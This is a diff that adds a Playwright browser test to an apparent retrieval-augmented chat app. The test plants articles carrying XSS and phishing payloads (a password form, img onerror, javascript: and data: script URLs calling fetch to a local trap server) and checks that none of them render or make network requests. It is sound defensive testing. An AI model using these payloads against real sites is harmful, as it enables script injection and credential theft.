@@ -428,3 +428,90 @@ def test_idle_queue_polls_calmly():
 
     ui = app.calm_queue(app.gr.Blocks().queue())
     assert ui._queue.sleep_when_free >= app.IDLE_POLL_S >= 0.01  # Gradio's own: 1 ms (7.7% of a core idle)
+
+
+def _hostile_articles(folder, trap: str) -> None:
+    """Articles whose text, title and url carry live HTML and script addresses. The text is plain for its
+    first 5,000 characters, so it is read as text and its tags reach the answer as characters."""
+    folder.mkdir()
+    filler = "The harbour board met again on Monday to review the season, officials said. " * 70
+    payload = (f'Zebra festival organisers posted a notice <form action="{trap}/steal"><input name="password">'
+               f'<button>Sign in to read</button></form> <img src="{trap}/img.png"> <video autoplay src="{trap}/v.mp4">'
+               f'</video> <audio autoplay src="{trap}/a.mp3"></audio> <iframe src="{trap}/frame"></iframe> '
+               f'[click me](javascript:alert(1)) ![x]({trap}/md.png) on Friday.')
+    (folder / "zebra.txt").write_text(f"Harbour season review\n\n{filler}\n\n{payload}\n")
+    import json
+
+    (folder / "links.json").write_text(json.dumps([
+        {"title": "Zebra parade <img src=x onerror=alert(1)>", "url": "javascript:fetch('" + trap + "/js')",
+         "text": "The zebra parade crossed the old bridge on Saturday, the festival said."},
+        {"title": "Zebra prize", "url": " JaVaScRiPt:alert(1)", "text": "A zebra prize was given to a local school on Sunday."},
+        {"title": "Zebra map", "url": f"data:text/html,<script>fetch('{trap}/data')</script>",
+         "text": "The zebra festival map showed three stages near the harbour."},
+    ]))
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason="Debian chromium is not installed (.ci/run installs it)")
+def test_hostile_articles_render_as_text_in_the_browser(tmp_path):
+    """Forms, images, media, frames and script or data addresses inside articles: in the real browser nothing
+    is fetched from their addresses, none becomes a control, and the only links are citations and http(s)."""
+    import threading
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+    from playwright.sync_api import sync_playwright
+
+    hits: list[str] = []
+
+    class Trap(BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802 - http.server's name
+            hits.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, *args):
+            pass
+
+    trap = ThreadingHTTPServer(("127.0.0.1", 0), Trap)
+    threading.Thread(target=trap.serve_forever, daemon=True).start()
+    trap_url = f"http://127.0.0.1:{trap.server_address[1]}"
+    _hostile_articles(tmp_path / "hostile", trap_url)
+    proc, url = _start_app(tmp_path, {"RAG_CORPUS_DIR": str(tmp_path / "hostile")})
+    try:
+        with sync_playwright() as p:
+            browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
+            page = browser.new_page(viewport={"width": 1400, "height": 1000})
+            requested: list[str] = []
+            page.on("request", lambda r: requested.append(r.url))
+            page.goto(url)
+            page.wait_for_selector("#question textarea", timeout=120_000)
+            for question in ("What notice did the zebra festival organisers post?", "Where did the zebra parade cross?",
+                             "What did the zebra festival map show?"):
+                page.fill("#question textarea", question)
+                page.press("#question textarea", "Enter")
+                page.wait_for_function("document.querySelector('#chat').innerText.split('Zebra').length > 1"
+                                       " && document.querySelectorAll('#sources .card, #sources [id^=src-]').length > 0",
+                                       timeout=90_000)
+                page.wait_for_timeout(1500)  # time for any image, media or frame to load
+            chat = page.inner_text("#chat")
+            assert "<form" in chat and "<img" in chat  # shown as the characters the article holds
+            controls = page.evaluate("""() => [...document.querySelectorAll('#chat, #sources')].flatMap(root =>
+                [...root.querySelectorAll('form, input, textarea, select, video, audio, iframe, object, embed, img')]
+                .map(e => e.outerHTML.slice(0, 80)))""")
+            assert controls == [], controls
+            assert "Sign in to read" not in page.evaluate(
+                "[...document.querySelectorAll('#chat button, #sources button')].map(b => b.innerText).join(' ')")
+            links = page.evaluate("""() => [...document.querySelectorAll('#chat a, #sources a')]
+                .map(a => a.getAttribute('href') || '')""")
+            assert links and all(h.startswith("#src-") or h.startswith(("http://", "https://")) for h in links), links
+            assert not any(trap_url in h for h in links)
+            browser.close()
+        origin = url.rstrip("/")
+        assert all(r.startswith(origin) or r.startswith(("data:image/svg", "blob:")) for r in requested), \
+            [r for r in requested if not r.startswith(origin)]
+        assert hits == [], hits  # nothing reached the addresses the articles named
+    finally:
+        proc.terminate()
+        proc.wait(timeout=20)
+        trap.shutdown()
